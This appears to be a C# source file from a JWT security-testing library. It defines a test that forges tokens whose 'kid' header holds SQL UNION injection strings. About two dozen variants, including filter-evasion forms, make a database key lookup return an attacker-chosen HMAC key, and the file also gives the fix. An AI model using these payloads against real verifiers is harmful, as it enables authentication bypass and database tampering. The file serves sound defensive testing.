using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The kid ends the query that looks the key up and adds a row of its own: the database hands the verifier the attacker's key.
/// MySQL, PostgreSQL, SQL Server, Oracle and SQLite forms. RFC 8725 3.10; OWASP ASVS 1.2.4.
/// </summary>
internal sealed class KidSqlUnion : JwtAttack
{
    /// <summary>
    /// 64 bytes in hexadecimal: long enough for every HS algorithm as text, as bytes, and as the base64 that it also is.
    /// </summary>
    private static readonly string Key =
        Convert.ToHexStringLower(Encoding.UTF8.GetBytes("a key that came into the database in the kid of the token itself"));

    private static readonly string[] Injections =
    [
        "x' UNION SELECT 'K'-- -", "x' UNION SELECT 'K','K'-- -", "x' UNION SELECT 'K','K','K'-- -",
        "x' UNION SELECT 'K','K','K','K'-- -",
        "x' UNION SELECT 1,'K'-- -", "x' UNION SELECT 1,'x','K'-- -",
        "x' UNION ALL SELECT 'K' FROM dual-- -", "x' UNION ALL SELECT 'K' WHERE '1'='1", "x' UNION SELECT 'K'#",
        "x') UNION SELECT 'K'-- -",
        "x\" UNION SELECT 'K'-- -", "-1 UNION SELECT 'K'-- -", "x' UNION SELECT CAST('K' AS VARBINARY(200))-- -",
        "x' UNION SELECT 'K'::bytea-- -",
        // in a query of several lines a dash comments out one of them
        "x' UNION SELECT 'K' /*", "x' UNION SELECT 1,'K' /*", "x' UNION SELECT 'K','K','K' /*",
        "x' UNION SELECT 'K','K','K','K','K'-- -", "x' UNION SELECT 'K','K','K','K','K','K'-- -",
        "x';SELECT 'K'-- -", "x'/**/UNION/**/SELECT/**/'K'--", "x' uNiOn sElEcT 'K'-- -",
    ];

    public override string Id => "CRY1076";

    public override JwtFamily Family => JwtFamily.KeyIdInjection;

    public override IReadOnlyList<int> Cwe => [89];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 1.2.4"];

    public override string Cause => "accepted a key that the kid itself put into the result of a SQL query";

    public override string Why => "anyone can become anyone, and read and change what the database account may";

    public override string Fix =>
        "pass kid as a parameter (FromSql or a DbParameter), or look it up in IssuerSigningKeys without a database";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1082"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        foreach (var injection in Injections)
        {
            var kid = injection.Replace("K", Key, StringComparison.Ordinal);
            yield return new Forgery(
                HmacJws.SignUnderKid(attacker.Token, kid, Encoding.UTF8.GetBytes(Key)),
                $"kid {injection}, key K");
            yield return new Forgery(
                HmacJws.SignUnderKid(attacker.Token, kid, Convert.FromBase64String(Key)),
                $"kid {injection}, key K out of base64");
            yield return new Forgery(
                HmacJws.SignUnderKid(attacker.Token, kid, Convert.FromHexString(Key)),
                $"kid {injection}, key K out of hexadecimal");
        }
    }
}
